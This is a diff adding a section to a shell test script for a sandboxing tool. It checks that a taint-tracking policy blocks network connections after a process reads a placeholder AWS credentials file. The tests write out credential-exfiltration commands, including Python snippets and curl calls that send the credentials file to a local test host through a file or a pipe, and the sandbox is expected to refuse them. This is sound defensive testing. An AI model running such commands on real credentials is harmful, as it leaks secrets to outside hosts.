@@ -138,5 +138,45 @@ echo "169.254.169.254 rebind.cbtest" > "$work/hosts"
 kill -HUP "${pids[0]}"; sleep 0.3
 expect "after rebinding to the metadata service" refused getent hosts rebind.cbtest
 
+# ---- what it read, then where it sent it: read(@secrets)
+mkdir -p "$work/home/.aws"
+echo "aws_secret_access_key = AKIA-not-a-real-one" > "$work/home/.aws/credentials"
+{
+    echo "version: 1"
+    echo "lists:"
+    echo "  secrets: [\"$work/home/.aws/**\"]"
+    echo "rules:"
+    echo "  - id: secret-senders"
+    echo "    action: [net.connect, net.send]"
+    echo "    when: read(@secrets)"
+    echo "    decision: ask"
+    sed -n '/^rules:/,$p' "$work/policy.yaml" | tail -n +2
+} > "$work/taint.yaml"
+cred=$work/home/.aws/credentials
+for tracer in seccomp,ebpf seccomp; do
+    tsession() { "$cb" run --db "$db" --policy "$work/taint.yaml" --resolver $up:5353 --tracer $tracer --ask deny -q -- "$@"; }
+    texpect() {
+        local name="$1 ($tracer)" want=$2; shift 2
+        out=$(tsession "$@" 2>&1); rc=$?
+        if [ "$want" = ok ] && [ $rc -ne 0 ]; then fail "$name: exit $rc: $out"; return; fi
+        if [ "$want" = refused ] && [ $rc -eq 0 ]; then fail "$name: got through: $out"; return; fi
+        echo "ok   $name (exit $rc)"
+    }
+    texpect "no secret read: the connection goes" ok python3 -c "
+import socket; socket.create_connection(('ok.cbtest', 8080), timeout=5)"
+    texpect "python reads the credentials, then connects" refused python3 -c "
+import socket; open('$cred').read(); socket.create_connection(('ok.cbtest', 8080), timeout=5)"
+    recorded "python reads the credentials, then connects ($tracer)" deny "tcp:$ok:8080" ok.cbtest
+    texpect "a child forked after the read" refused python3 -c "
+import os, socket; open('$cred').read()
+if os.fork() == 0:
+    try: socket.create_connection(('ok.cbtest', 8080), timeout=5); os._exit(0)
+    except OSError: os._exit(1)
+_, st = os.wait(); raise SystemExit(os.waitstatus_to_exitcode(st))"
+    texpect "through a file another process wrote" refused sh -c "cat '$cred' > '$work/stash'; curl -sf -o /dev/null -G --data-urlencode k@'$work/stash' http://ok.cbtest:8080/"
+    texpect "through a pipe" refused sh -c "cat '$cred' | (sleep 0.3; curl -sf -o /dev/null -G --data-urlencode k@- http://ok.cbtest:8080/)"
+    texpect "a sibling that read nothing" ok sh -c "cat '$cred' > /dev/null; curl -sf -o /dev/null http://ok.cbtest:8080/"
+done
+
 echo "session_net: $fails failures"
 [ $fails -eq 0 ]
